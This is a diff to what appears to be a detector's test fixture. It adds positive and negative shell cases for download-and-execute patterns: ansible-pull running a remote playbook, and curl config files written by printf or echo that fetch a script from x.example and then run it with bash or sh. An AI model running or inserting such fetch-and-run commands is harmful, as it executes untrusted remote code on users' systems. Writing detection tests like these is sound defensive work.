@@ -605,3 +605,23 @@ printf -v get %s curl
 get=curl
 read -r get
 "$get" -so /tmp/x https://example.com/x
+#@ pos ansible-pull clones a repository and runs its playbook
+ansible-pull -U https://github.com/ops/bootstrap.git local.yml
+#@ pos ansible-pull --url= with the repository in a variable
+ansible-pull --url="$repo" -d /tmp/w
+#@ neg ansible-playbook of a local playbook, ansible-pull's help
+ansible-playbook -i localhost, site.yml
+ansible-pull --help
+#@ pos a curl config written by printf names the file curl -K downloads, then run
+printf 'url = "%s"\noutput = "%s"\n' https://x.example/s "$f" >"$cfg"
+curl -K "$cfg"
+bash "$f"
+#@ pos a curl config written by echo lines (-o F), curl --config, then sh F
+echo "url = https://x.example/s" > "$cfg"
+echo "-o $out" >> "$cfg"
+curl --config "$cfg"
+sh "$out"
+#@ neg a curl config written by printf names a data file that is then counted
+printf 'url = "%s"\noutput = "%s"\n' https://x.example/d.csv "$f" >"$cfg"
+curl -K "$cfg"
+wc -l "$f"
